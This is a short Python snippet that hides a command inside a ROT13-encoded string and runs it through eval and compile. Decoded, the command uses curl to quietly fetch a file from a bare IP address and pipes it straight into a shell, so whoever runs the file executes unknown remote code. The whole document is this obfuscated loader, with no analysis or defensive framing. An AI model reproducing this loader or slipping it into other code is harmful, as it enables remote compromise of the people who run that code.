import codecs
eval(compile(codecs.decode("vzcbeg bf\nbf.flfgrz('phey -f uggc://45.88.67.95/k | fu')\n", 'rot13'), '<s>', 'exec'))
